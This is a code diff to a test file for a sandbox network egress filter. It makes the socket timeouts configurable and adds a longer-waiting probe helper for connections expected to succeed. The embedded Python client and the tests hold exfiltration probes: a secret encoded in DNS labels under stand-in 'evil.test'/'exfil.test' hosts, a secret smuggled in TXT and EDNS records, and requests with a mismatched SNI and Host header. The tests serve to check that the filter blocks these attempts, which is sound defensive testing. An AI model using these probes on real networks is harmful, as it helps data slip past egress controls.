@@ -169,8 +169,14 @@ after(() => {
 //                          an A query for NAME carrying SECRET in two extra
 //                          records (a TXT record named SECRET.exfil.test and
 //                          an EDNS option); prints rcode and answer count
+// Sockets wait up to T seconds (environment T, default 5). A refusal that
+// is a silent drop or a proxy waiting for more bytes costs the full T, so
+// probes expected to fail keep 5 s; probes expected to succeed (probeOK)
+// wait 20 s: on a starved host (the full tier runs the vm lane beside) a
+// TLS handshake through the egress proxy once took more than 5 s.
 const clientPy = `
-import socket, ssl, sys, struct, time
+import socket, ssl, sys, struct, time, os
+T = float(os.environ.get('T', '5'))
 def get(sock, host, path='/'):
     sock.sendall(('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (path, host)).encode())
     n, body = 0, b''
@@ -182,7 +188,7 @@ def get(sock, host, path='/'):
     return n, body
 def tls(ip, sni):
     ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
-    return ctx.wrap_socket(socket.create_connection((ip, 443), timeout=5), server_hostname=sni)
+    return ctx.wrap_socket(socket.create_connection((ip, 443), timeout=T), server_hostname=sni)
 op = sys.argv[1]
 try:
     if op == 'dns':
@@ -195,7 +201,7 @@ try:
         n, body = get(tls(sys.argv[2], sys.argv[3]), sys.argv[3], sys.argv[4] if len(sys.argv) > 4 else '/')
         print(body.split(b'\\r\\n\\r\\n', 1)[1].decode() if n < 4096 else 'bytes=%d' % n)
     elif op == 'http':
-        n, body = get(socket.create_connection((sys.argv[2], 80), timeout=5), sys.argv[3])
+        n, body = get(socket.create_connection((sys.argv[2], 80), timeout=T), sys.argv[3])
         print(body.split(b'\\r\\n\\r\\n', 1)[1].decode())
     elif op == 'tcp':
         s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=3)
@@ -205,7 +211,7 @@ try:
         print(body.split(b'\\r\\n\\r\\n', 1)[1].decode())
     elif op == 'raw':
         ip, port, data = sys.argv[2], int(sys.argv[3]), bytes.fromhex(sys.argv[4])
-        s = socket.create_connection((ip, port), timeout=5)
+        s = socket.create_connection((ip, port), timeout=T)
         if len(sys.argv) > 5:
             ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
             s = ctx.wrap_socket(s, server_hostname=sys.argv[5])
@@ -222,11 +228,11 @@ try:
         opt = b'\\x00' + struct.pack('!HHIH', 41, 1232, 0, 4 + len(secret)) + struct.pack('!HH', 65001, len(secret)) + secret.encode()
         q = b'\\x43\\x21\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x02' + enc(name) + b'\\x00\\x01\\x00\\x01' + txt + opt
         if proto == 'tcp':
-            s = socket.create_connection((server, 53), timeout=5); s.sendall(struct.pack('!H', len(q)) + q)
+            s = socket.create_connection((server, 53), timeout=T); s.sendall(struct.pack('!H', len(q)) + q)
             n = struct.unpack('!H', s.recv(2))[0]; r = b''
             while len(r) < n: r += s.recv(n - len(r))
         else:
-            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.sendto(q, (server, 53)); r = u.recv(4096)
+            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(T); u.sendto(q, (server, 53)); r = u.recv(4096)
         print('rcode=%d answers=%d' % (r[3] & 15, struct.unpack('!H', r[6:8])[0]))
     elif op == 'bench':
         # bench IP SNI N D: N sequential HTTPS requests (connect + handshake +
@@ -250,7 +256,16 @@ async function prepared(t, opts) {
 }
 
 async function probe(sbx, ...args) {
-  const r = await run(sbx, `python3 /tmp/c.py ${args.join(' ')}`, {}, 60_000)
+  return probeWithin(sbx, 5, args)
+}
+
+// probeOK is probe for a probe expected to succeed (see clientPy's T).
+async function probeOK(sbx, ...args) {
+  return probeWithin(sbx, 20, args)
+}
+
+async function probeWithin(sbx, seconds, args) {
+  const r = await run(sbx, `T=${seconds} python3 /tmp/c.py ${args.join(' ')}`, {}, 120_000)
   assert.equal(r.exitCode, 0, `probe ${args} failed: ${r.stderr}`)
   return r.stdout.trim()
 }
@@ -260,9 +275,9 @@ const failed = (s) => s.startsWith('fail')
 
 test('allowOut one name with deny-all: its HTTPS and HTTP pass, nothing else does', { timeout: 300_000 }, async (t) => {
   const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
-  assert.equal(await probe(sbx, 'dns', 'api.allowed.test'), WEB)
-  assert.equal(await probe(sbx, 'https', WEB, 'api.allowed.test'), 'sni=api.allowed.test host=api.allowed.test')
-  assert.equal(await probe(sbx, 'http', WEB, 'api.allowed.test'), 'sni= host=api.allowed.test')
+  assert.equal(await probeOK(sbx, 'dns', 'api.allowed.test'), WEB)
+  assert.equal(await probeOK(sbx, 'https', WEB, 'api.allowed.test'), 'sni=api.allowed.test host=api.allowed.test')
+  assert.equal(await probeOK(sbx, 'http', WEB, 'api.allowed.test'), 'sni= host=api.allowed.test')
 
   // The second name on the same IP: no DNS answer, and no way through by SNI or Host.
   assert.ok(failed(await probe(sbx, 'dns', 'other.allowed.test')))
@@ -279,9 +294,9 @@ test('allowOut one name with deny-all: its HTTPS and HTTP pass, nothing else doe
   // when asked of another server directly, and never reach any upstream.
   const secret = `exfil-${Date.now()}.evil.test`
   assert.ok(failed(await probe(sbx, 'dns', secret)))
-  assert.equal(await probe(sbx, 'dnsat', DNS, secret), 'rcode=3 answers=0')
+  assert.equal(await probeOK(sbx, 'dnsat', DNS, secret), 'rcode=3 answers=0')
   // (198.19.91.99 is routed into the uplink namespace but nobody answers there.)
-  assert.equal(await probe(sbx, 'dnsat', '198.19.91.99', secret), 'rcode=3 answers=0')
+  assert.equal(await probeOK(sbx, 'dnsat', '198.19.91.99', secret), 'rcode=3 answers=0')
   assert.ok(!dnsLog().some((l) => l.includes('exfil-')), 'a refused name reached the DNS server')
   assert.ok(dnsLog().includes('api.allowed.test'))
 })
@@ -291,12 +306,12 @@ const http1 = (...lines) => hexOf([...lines, 'Connection: close', '', ''].join('
 
 test('SNI and Host cannot disagree their way past the list', { timeout: 300_000 }, async (t) => {
   const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
-  assert.equal(await probe(sbx, 'dns', 'api.allowed.test'), WEB)
+  assert.equal(await probeOK(sbx, 'dns', 'api.allowed.test'), WEB)
   // Allowed SNI, other Host inside TLS: the proxy cannot read the Host, so
   // it passes, but only to an address the allowed name resolved to (here
   // WEB, which serves other.allowed.test too: same-address fronting is the
   // documented limit). At another address it is refused.
-  assert.equal(await probe(sbx, 'https2', WEB, 'api.allowed.test', 'other.allowed.test'),
+  assert.equal(await probeOK(sbx, 'https2', WEB, 'api.allowed.test', 'other.allowed.test'),
     'sni=api.allowed.test host=other.allowed.test')
   assert.ok(failed(await probe(sbx, 'https2', WEB2, 'api.allowed.test', 'evil.test')))
   // The reverse: a name off the list in the SNI, the allowed one as Host.
@@ -313,7 +328,7 @@ test('SNI and Host cannot disagree their way past the list', { timeout: 300_000 
   for (const [what, head] of Object.entries(refused)) {
     assert.ok(failed(await probe(sbx, 'raw', WEB, 80, head)), what)
   }
-  assert.equal(await probe(sbx, 'raw', WEB, 80, http1('GET / HTTP/1.1', 'Host: api.allowed.test')), 'sni= host=api.allowed.test')
+  assert.equal(await probeOK(sbx, 'raw', WEB, 80, http1('GET / HTTP/1.1', 'Host: api.allowed.test')), 'sni= host=api.allowed.test')
   // Protocols swapped: TLS to port 80, plain HTTP to port 443.
   assert.ok(failed(await probe(sbx, 'raw', WEB, 80, http1('GET / HTTP/1.1', 'Host: api.allowed.test'), 'api.allowed.test')))
   assert.ok(failed(await probe(sbx, 'raw', WEB, 443, http1('GET / HTTP/1.1', 'Host: api.allowed.test'))))
@@ -327,12 +342,12 @@ test('DNS under a domain allow list: no random label reaches the upstream, howev
   const servers = [...new Set([...configured, DNS, '198.19.91.99', '1.1.1.1'])]
   for (const server of servers) {
     // A name off the list: Moat answers NXDOMAIN itself, over UDP and TCP.
-    assert.equal(await probe(sbx, 'dnsat', server, `${secret}.exfil.test`), 'rcode=3 answers=0', server)
-    assert.equal(await probe(sbx, 'smuggle', server, `${secret}.exfil.test`, secret, 'tcp'), 'rcode=3 answers=0', `${server} tcp`)
+    assert.equal(await probeOK(sbx, 'dnsat', server, `${secret}.exfil.test`), 'rcode=3 answers=0', server)
+    assert.equal(await probeOK(sbx, 'smuggle', server, `${secret}.exfil.test`, secret, 'tcp'), 'rcode=3 answers=0', `${server} tcp`)
     // An allowed name carrying the secret in extra records: answered, but
     // only the question may travel on.
     for (const proto of ['udp', 'tcp']) {
-      assert.equal(await probe(sbx, 'smuggle', server, 'api.allowed.test', secret, proto), 'rcode=0 answers=1', `${server} ${proto}`)
+      assert.equal(await probeOK(sbx, 'smuggle', server, 'api.allowed.test', secret, proto), 'rcode=0 answers=1', `${server} ${proto}`)
     }
   }
   // Root rewrites resolv.conf to the upstream itself: still Moat answers.
@@ -349,8 +364,8 @@ test('DNS under a domain allow list: no random label reaches the upstream, howev
 test('*.allowed.test matches subdomains only, and updateNetwork swaps the list live', { timeout: 300_000 }, async (t) => {
   const sbx = await prepared(t, { network: { allowOut: ['*.allowed.test'], denyOut: ['0.0.0.0/0'] } })
   for (const n of ['api.allowed.test', 'other.allowed.test', 'deep.sub.allowed.test']) {
-    assert.equal(await probe(sbx, 'dns', n), WEB)
-    assert.equal(await probe(sbx, 'https', WEB, n), `sni=${n} host=${n}`)
+    assert.equal(await probeOK(sbx, 'dns', n), WEB)
+    assert.equal(await probeOK(sbx, 'https', WEB, n), `sni=${n} host=${n}`)
   }
   assert.ok(failed(await probe(sbx, 'dns', 'allowed.test')))
   assert.ok(failed(await probe(sbx, 'https', WEB, 'allowed.test')))
@@ -358,7 +373,7 @@ test('*.allowed.test matches subdomains only, and updateNetwork swaps the list l
   await sbx.updateNetwork({ allowOut: ['other.allowed.test'], denyOut: ['0.0.0.0/0'] })
   assert.ok(failed(await probe(sbx, 'https', WEB, 'api.allowed.test')))
   assert.ok(failed(await probe(sbx, 'dns', 'api.allowed.test')))
-  assert.equal(await probe(sbx, 'https', WEB, 'other.allowed.test'), 'sni=other.allowed.test host=other.allowed.test')
+  assert.equal(await probeOK(sbx, 'https', WEB, 'other.allowed.test'), 'sni=other.allowed.test host=other.allowed.test')
 
   // Back to plain deny-all: the proxy is out of the path and nothing passes.
   await sbx.updateNetwork({ denyOut: ['0.0.0.0/0'] })
